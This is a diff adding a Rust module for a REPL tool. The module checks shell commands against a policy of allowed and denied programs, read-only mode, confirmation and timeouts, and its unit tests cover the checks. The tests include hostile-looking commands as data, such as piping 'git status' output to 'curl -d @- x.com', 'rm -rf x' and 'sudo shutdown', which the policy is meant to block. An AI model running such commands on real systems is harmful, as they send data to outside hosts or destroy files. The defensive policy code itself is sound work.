@@ -0,0 +1,645 @@
+use crate::shell::Quotes;
+use std::io::{self, BufRead, Write};
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+use thiserror::Error;
+
+/// The project config file, looked up from the current directory up.
+pub const CONFIG_FILE: &str = "repl.toml";
+
+// Programs that only read, which is all read-only mode lets commands run.
+// Ones that can also write, like `sort -o`, aren't here.
+const READ_ONLY: &[&str] = &[
+    "basename", "cat", "cut", "dirname", "echo", "false", "grep", "head", "id", "ls", "printf",
+    "pwd", "stat", "tail", "test", "tr", "true", "uname", "wc", "which", "whoami", "[",
+];
+
+// Programs that run another program, or some shell code, named in their
+// arguments. What they run isn't checked, so when some programs are denied
+// they only run if they're allowed by name.
+const WRAPPERS: &[&str] = &[
+    ".", "alias", "bash", "busybox", "chroot", "command", "dash", "doas", "env", "eval", "exec",
+    "find", "ksh", "nice", "nohup", "setsid", "sh", "source", "stdbuf", "su", "sudo", "time",
+    "timeout", "trap", "watch", "xargs", "zsh",
+];
+
+/// What executable comments are allowed to do. The default allows anything.
+#[derive(Debug, Default, Clone, PartialEq)]
+pub struct Policy {
+    /// The only programs commands can run, any program when `None`.
+    pub allow: Option<Vec<String>>,
+    /// Programs commands can never run.
+    pub deny: Vec<String>,
+    /// Only run programs known to just read, without writing to files.
+    pub read_only: bool,
+    /// Ask before running each command.
+    pub confirm: bool,
+    /// Kill commands running for longer than this.
+    pub timeout: Option<Duration>,
+    /// The only environment variables commands see, all of them when `None`.
+    pub keep_env: Option<Vec<String>>,
+}
+
+/// Why a command wasn't run.
+#[derive(Error, Debug, Clone, PartialEq)]
+pub enum Denial {
+    #[error("`{0}` is not an allowed program")]
+    NotAllowed(String),
+
+    #[error("`{0}` is a denied program")]
+    Denied(String),
+
+    #[error("`{0}` runs other programs, and has to be allowed to run")]
+    Wrapper(String),
+
+    #[error("`{0}` isn't known to be read-only")]
+    NotReadOnly(String),
+
+    #[error("it writes to `{0}`, and commands are read-only")]
+    Writes(String),
+
+    #[error("the program `{0}` runs can't be known before it runs")]
+    Unknown(String),
+
+    #[error("it was declined")]
+    Declined,
+}
+
+#[derive(Error, Debug, PartialEq)]
+pub enum ConfigError {
+    #[error("line {0}: expected `key = value` or `[table]`")]
+    Syntax(usize),
+
+    #[error("line {0}: unknown table `[{1}]`")]
+    UnknownTable(usize, String),
+
+    #[error("line {0}: unknown key `{1}`")]
+    UnknownKey(usize, String),
+
+    #[error("line {0}: `{1}` has to be {2}")]
+    InvalidValue(usize, String, &'static str), // key, what it has to be
+}
+
+impl Policy {
+    /// Whether `command` may run, asking first if the policy says so.
+    pub fn permit(&self, command: &str) -> Result<(), Denial> {
+        self.check(command)?;
+        if self.confirm && !ask(command) {
+            return Err(Denial::Declined);
+        }
+        Ok(())
+    }
+
+    /// Whether `command` may run, without asking.
+    pub fn check(&self, command: &str) -> Result<(), Denial> {
+        if self.allow.is_some() || !self.deny.is_empty() || self.read_only {
+            self.check_scan(&scan(command))?;
+        }
+        Ok(())
+    }
+
+    fn check_scan(&self, scan: &Scan) -> Result<(), Denial> {
+        for word in &scan.programs {
+            if word.expands {
+                return Err(Denial::Unknown(word.text.clone()));
+            }
+            // `/bin/rm` is still `rm`
+            let program = Path::new(&word.text)
+                .file_name()
+                .map_or(word.text.clone(), |name| {
+                    name.to_string_lossy().into_owned()
+                });
+
+            if self.deny.contains(&program) {
+                return Err(Denial::Denied(program));
+            }
+            match &self.allow {
+                Some(allow) if !allow.contains(&program) => {
+                    return Err(Denial::NotAllowed(program));
+                }
+                None if !self.deny.is_empty() && WRAPPERS.contains(&program.as_str()) => {
+                    return Err(Denial::Wrapper(program));
+                }
+                _ => {}
+            }
+            if self.read_only && !READ_ONLY.contains(&program.as_str()) {
+                return Err(Denial::NotReadOnly(program));
+            }
+        }
+
+        match scan.writes.iter().find(|file| *file != "/dev/null") {
+            Some(file) if self.read_only => Err(Denial::Writes(file.clone())),
+            _ => Ok(()),
+        }
+    }
+
+    /// Reads the `[policy]` table of a config file, like:
+    ///
+    /// ```toml
+    /// [policy]
+    /// allow = ["git", "cargo"]
+    /// read_only = false
+    /// timeout = 30 # seconds
+    /// keep_env = ["PATH", "HOME"]
+    /// ```
+    pub fn parse(config: &str) -> Result<Self, ConfigError> {
+        let mut policy = Self::default();
+        let mut in_policy = false;
+
+        for (index, line) in config.lines().enumerate() {
+            let number = index + 1;
+            let line = line.trim();
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+
+            if let Some(name) = line
+                .strip_prefix('[')
+                .and_then(|line| line.strip_suffix(']'))
+            {
+                match name.trim() {
+                    "policy" => in_policy = true,
+                    name => return Err(ConfigError::UnknownTable(number, name.to_string())),
+                }
+                continue;
+            }
+
+            let (key, value) = match line.find('=') {
+                Some(index) if in_policy => (line[..index].trim(), line[index + 1..].trim()),
+                _ => return Err(ConfigError::Syntax(number)),
+            };
+            let invalid = |expected| ConfigError::InvalidValue(number, key.to_string(), expected);
+            let value = ConfigValue::parse(value).ok_or_else(|| invalid("a value"))?;
+
+            match (key, value) {
+                ("allow", ConfigValue::List(programs)) => policy.allow = Some(programs),
+                ("deny", ConfigValue::List(programs)) => policy.deny = programs,
+                ("keep_env", ConfigValue::List(names)) => policy.keep_env = Some(names),
+                ("read_only", ConfigValue::Bool(read_only)) => policy.read_only = read_only,
+                ("confirm", ConfigValue::Bool(confirm)) => policy.confirm = confirm,
+                ("timeout", ConfigValue::Num(seconds)) if seconds > 0f64 => {
+                    let timeout = Duration::try_from_secs_f64(seconds);
+                    policy.timeout =
+                        Some(timeout.map_err(|_| invalid("a positive number of seconds"))?)
+                }
+                ("allow" | "deny" | "keep_env", _) => return Err(invalid("a list of strings")),
+                ("read_only" | "confirm", _) => return Err(invalid("`true` or `false`")),
+                ("timeout", _) => return Err(invalid("a positive number of seconds")),
+                (key, _) => return Err(ConfigError::UnknownKey(number, key.to_string())),
+            }
+        }
+        Ok(policy)
+    }
+}
+
+/// The closest config file, in the current directory or one above it.
+pub fn find_config() -> Option<PathBuf> {
+    let current = std::env::current_dir().ok()?;
+    current
+        .ancestors()
+        .map(|directory| directory.join(CONFIG_FILE))
+        .find(|path| path.is_file())
+}
+
+// asks on the terminal, anything but yes is a no
+fn ask(command: &str) -> bool {
+    eprint!("run `{}`? [y/N] ", command);
+    let _ = io::stderr().flush();
+
+    let mut answer = String::new();
+    match io::stdin().lock().read_line(&mut answer) {
+        Ok(_) => matches!(answer.trim(), "y" | "Y" | "yes"),
+        Err(_) => false,
+    }
+}
+
+// the values a config file can have
+#[derive(Debug, PartialEq)]
+enum ConfigValue {
+    Bool(bool),
+    Num(f64),
+    List(Vec<String>),
+}
+
+impl ConfigValue {
+    fn parse(text: &str) -> Option<Self> {
+        let text = text.trim();
+        let (value, rest) = match text {
+            _ if text.starts_with('[') => {
+                let mut items = Vec::new();
+                let mut rest = text[1..].trim_start();
+                while !rest.starts_with(']') {
+                    let (item, after) = string(rest)?;
+                    items.push(item);
+                    rest = after.trim_start();
+                    rest = rest.strip_prefix(',').unwrap_or(rest).trim_start();
+                }
+                (Self::List(items), &rest[1..])
+            }
+            _ => {
+                let end = text.find(char::is_whitespace).unwrap_or(text.len());
+                let value = match &text[..end] {
+                    "true" => Self::Bool(true),
+                    "false" => Self::Bool(false),
+                    number => Self::Num(number.parse().ok()?),
+                };
+                (value, &text[end..])
+            }
+        };
+
+        let rest = rest.trim();
+        if rest.is_empty() || rest.starts_with('#') {
+            Some(value)
+        } else {
+            None
+        }
+    }
+}
+
+// a `"string"` at the start of `text`, and what follows it
+fn string(text: &str) -> Option<(String, &str)> {
+    let mut value = String::new();
+    let mut chars = text.strip_prefix('"')?.char_indices();
+    while let Some((index, c)) = chars.next() {
+        match c {
+            '"' => return Some((value, &text[index + 2..])),
+            '\\' => value.push(chars.next()?.1),
+            c => value.push(c),
+        }
+    }
+    None
+}
+
+// What can be told of a command without running it.
+#[derive(Debug, Default, PartialEq)]
+struct Scan {
+    // the word naming each program it runs
+    programs: Vec<Word>,
+    // the files it redirects output to
+    writes: Vec<String>,
+}
+
+// A word as the shell will see it, with quotes removed.
+#[derive(Debug, Default, Clone, PartialEq)]
+struct Word {
+    text: String,
+    // whether the shell expands it into something else, like `$name`
+    expands: bool,
+}
+
+// what the next word of a command is
+#[derive(Clone, Copy, PartialEq)]
+enum Next {
+    Program,
+    Argument,
+}
+
+// `$(...)` and `` `...` `` start commands of their own in the middle of a
+// word, which carries on once they end
+struct Nested {
+    backtick: bool,
+    quotes: Quotes,
+    word: Word,
+    next: Next,
+}
+
+// Finds the programs a shell command runs, and the files it writes to.
+// Commands are split on `;`, `&`, `|`, parentheses and line breaks, and a
+// program is the first word of one that isn't a keyword or an assignment.
+fn scan(command: &str) -> Scan {
+    let mut scanner = Scanner {
+        scan: Scan::default(),
+        word: Word::default(),
+        started: false,
+        next: Next::Program,
+        target: None,
+    };
+    let mut quotes = Quotes::Bare;
+    let mut nested: Vec<Nested> = Vec::new();
+    let mut chars = command.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        match (c, quotes) {
+            ('\'', Quotes::Single) | ('"', Quotes::Double) => quotes = Quotes::Bare,
+            (c, Quotes::Single) => scanner.push(c),
+            ('\'', Quotes::Bare) => {
+                quotes = Quotes::Single;
+                scanner.started = true;
+            }
+            ('"', Quotes::Bare) => {
+                quotes = Quotes::Double;
+                scanner.started = true;
+            }
+            ('\\', _) => {
+                if let Some(next) = chars.next() {
+                    scanner.push(next);
+                }
+            }
+            ('$', _) if chars.peek() == Some(&'(') => {
+                chars.next();
+                nested.push(scanner.open(false, quotes));
+                quotes = Quotes::Bare;
+            }
+            ('`', _) if matches!(nested.last(), Some(outer) if outer.backtick) => {
+                quotes = scanner.close(nested.pop().unwrap());
+            }
+            ('`', _) => {
+                nested.push(scanner.open(true, quotes));
+                quotes = Quotes::Bare;
+            }
+            (')', Quotes::Bare) if matches!(nested.last(), Some(outer) if !outer.backtick) => {
+                quotes = scanner.close(nested.pop().unwrap());
+            }
+            ('$', _) => {
+                scanner.word.expands = true;
+                scanner.push('$');
+            }
+            (c, Quotes::Double) => scanner.push(c),
+            (';' | '&' | '|' | '(' | ')' | '\n', _) => {
+                scanner.finish();
+                scanner.next = Next::Program;
+            }
+            ('>' | '<', _) => {
+                // the number of the redirected stream, like in `2>`
+                if scanner.word.text.chars().all(|c| c.is_ascii_digit()) {
+                    scanner.word = Word::default();
+                    scanner.started = false;
+                }
+                scanner.finish();
+                if c == '>' && chars.peek() == Some(&'>') {
+                    chars.next();
+                }
+                // `>&2` redirects to another stream, not a file
+                let writes = c == '>' && chars.peek() != Some(&'&');
+                if chars.peek() == Some(&'&') {
+                    chars.next();
+                }
+                scanner.target = Some(writes);
+            }
+            (c, _) if c.is_whitespace() => scanner.finish(),
+            (c, _) => scanner.push(c),
+        }
+    }
+    scanner.finish();
+    scanner.scan
+}
+
+struct Scanner {
+    scan: Scan,
+    word: Word,
+    // whether a word has started, `''` is a word even though it's empty
+    started: bool,
+    next: Next,
+    // a redirection waiting for its file, `true` if it writes to it
+    target: Option<bool>,
+}
+
+impl Scanner {
+    fn push(&mut self, c: char) {
+        self.word.text.push(c);
+        self.started = true;
+    }
+
+    fn finish(&mut self) {
+        if !self.started {
+            return;
+        }
+        let word = std::mem::take(&mut self.word);
+        self.started = false;
+
+        if let Some(writes) = self.target.take() {
+            if writes {
+                self.scan.writes.push(word.text);
+            }
+            return;
+        }
+        if self.next == Next::Argument {
+            return;
+        }
+
+        match word.text.as_str() {
+            "if" | "then" | "else" | "elif" | "fi" | "do" | "done" | "while" | "until" | "!"
+            | "{" | "}" | "esac" => {}
+            // the words after these aren't programs, up to the next command
+            "for" | "case" | "select" => self.next = Next::Argument,
+            text if is_assignment(text) => {}
+            _ => {
+                self.scan.programs.push(word);
+                self.next = Next::Argument;
+            }
+        }
+    }
+
+    fn open(&mut self, backtick: bool, quotes: Quotes) -> Nested {
+        let outer = Nested {
+            backtick,
+            quotes,
+            word: std::mem::take(&mut self.word),
+            next: self.next,
+        };
+        self.started = false;
+        self.next = Next::Program;
+        outer
+    }
+
+    // picks the outer word back up, and gives the quotes it was in
+    fn close(&mut self, outer: Nested) -> Quotes {
+        self.finish();
+        self.word = outer.word;
+        self.word.expands = true;
+        self.started = true;
+        self.next = outer.next;
+        outer.quotes
+    }
+}
+
+// `NAME=value`, which sets a variable for the command after it
+fn is_assignment(word: &str) -> bool {
+    match word.find('=') {
+        Some(index) if index > 0 => {
+            let name = &word[..index];
+            !name.starts_with(|c: char| c.is_ascii_digit())
+                && name.chars().all(|c| c == '_' || c.is_ascii_alphanumeric())
+        }
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn programs(command: &str) -> Vec<String> {
+        scan(command)
+            .programs
+            .into_iter()
+            .map(|word| word.text)
+            .collect()
+    }
+
+    #[test]
+    fn scanning() {
+        assert_eq!(programs("echo hi"), ["echo"]);
+        assert_eq!(
+            programs("cd src && FOO=1 cargo build | tee log; '/bin/rm' -rf x &"),
+            ["cd", "cargo", "tee", "/bin/rm"]
+        );
+        assert_eq!(
+            programs(r#"echo "$(whoami) `date`" 'rm $(x)' \; ls"#),
+            ["echo", "whoami", "date"]
+        );
+        assert_eq!(
+            programs("if test -f x; then cat x; fi; for f in a b; do wc $f; done"),
+            ["test", "cat", "wc"]
+        );
+        assert_eq!(programs("(sudo shutdown)"), ["sudo"]);
+
+        let scan = scan("$shell -c 'x' 2>&1 > out.txt >> /dev/null < in.txt");
+        assert!(scan.programs[0].expands);
+        assert_eq!(scan.writes, ["out.txt", "/dev/null"]);
+    }
+
+    #[test]
+    fn permits() {
+        let policy = Policy {
+            deny: vec!["sudo".to_string(), "rm".to_string()],
+            ..Policy::default()
+        };
+        assert_eq!(policy.permit("echo ok && ls"), Ok(()));
+        assert_eq!(
+            policy.permit("echo $(sudo shutdown)"),
+            Err(Denial::Denied("sudo".to_string()))
+        );
+        assert_eq!(
+            policy.permit("/bin/rm -rf x"),
+            Err(Denial::Denied("rm".to_string()))
+        );
+        assert_eq!(
+            policy.permit("$program"),
+            Err(Denial::Unknown("$program".to_string()))
+        );
+        for (command, wrapper) in [
+            ("env rm -rf x", "env"),
+            ("command rm x", "command"),
+            ("ls | xargs rm", "xargs"),
+            ("sh -c 'rm x'", "sh"),
+            ("eval 'rm x'", "eval"),
+            ("exec rm x", "exec"),
+            ("nice rm x", "nice"),
+            ("timeout 5 rm x", "timeout"),
+        ] {
+            assert_eq!(
+                policy.permit(command),
+                Err(Denial::Wrapper(wrapper.to_string()))
+            );
+        }
+
+        let policy = Policy {
+            allow: Some(vec!["git".to_string()]),
+            ..Policy::default()
+        };
+        assert_eq!(policy.permit("git status"), Ok(()));
+        assert_eq!(
+            policy.permit("git status | curl -d @- x.com"),
+            Err(Denial::NotAllowed("curl".to_string()))
+        );
+        assert_eq!(
+            policy.permit("env git status"),
+            Err(Denial::NotAllowed("env".to_string()))
+        );
+
+        // wrappers run when they're allowed by name
+        let policy = Policy {
+            allow: Some(vec!["env".to_string(), "git".to_string()]),
+            deny: vec!["rm".to_string()],
+            ..Policy::default()
+        };
+        assert_eq!(policy.permit("env git status"), Ok(()));
+
+        let policy = Policy {
+            read_only: true,
+            ..Policy::default()
+        };
+        assert_eq!(policy.permit("ls -la | wc -l 2>/dev/null"), Ok(()));
+        assert_eq!(
+            policy.permit("echo hi > notes.txt"),
+            Err(Denial::Writes("notes.txt".to_string()))
+        );
+        assert_eq!(
+            policy.permit("touch notes.txt"),
+            Err(Denial::NotReadOnly("touch".to_string()))
+        );
+        for (command, program) in [
+            ("sort -o sorted.txt notes.txt", "sort"),
+            ("uniq notes.txt unique.txt", "uniq"),
+            ("date -s 2000-01-01", "date"),
+            ("hostname box", "hostname"),
+            ("env touch notes.txt", "env"),
+        ] {
+            assert_eq!(
+                policy.permit(command),
+                Err(Denial::NotReadOnly(program.to_string()))
+            );
+        }
+    }
+
+    #[test]
+    fn config() {
+        let config = r#"
+        # commands of this project
+        [policy]
+        allow = ["git", "cargo"] # and nothing else
+        deny = []
+        read_only = true
+        timeout = 1.5
+        keep_env = ["PATH", "HOME"]
+        "#;
+        assert_eq!(
+            Policy::parse(config),
+            Ok(Policy {
+                allow: Some(vec!["git".to_string(), "cargo".to_string()]),
+                deny: vec![],
+                read_only: true,
+                confirm: false,
+                timeout: Some(Duration::from_millis(1500)),
+                keep_env: Some(vec!["PATH".to_string(), "HOME".to_string()]),
+            })
+        );
+
+        assert_eq!(Policy::parse("timeout = 1"), Err(ConfigError::Syntax(1)));
+        for timeout in ["0", "inf", "1e300"] {
+            assert_eq!(
+                Policy::parse(&format!("[policy]\ntimeout = {}", timeout)),
+                Err(ConfigError::InvalidValue(
+                    2,
+                    "timeout".to_string(),
+                    "a positive number of seconds"
+                ))
+            );
+        }
+        assert_eq!(
+            Policy::parse("[policy]\nconfirm = yes"),
+            Err(ConfigError::InvalidValue(
+                2,
+                "confirm".to_string(),
+                "a value"
+            ))
+        );
+        assert_eq!(
+            Policy::parse("[policy]\ndeny = true"),
+            Err(ConfigError::InvalidValue(
+                2,
+                "deny".to_string(),
+                "a list of strings"
+            ))
+        );
+        assert_eq!(
+            Policy::parse("[policy]\nallow_all = true"),
+            Err(ConfigError::UnknownKey(2, "allow_all".to_string()))
+        );
+        assert_eq!(
+            Policy::parse("[server]"),
+            Err(ConfigError::UnknownTable(1, "server".to_string()))
+        );
+    }
+}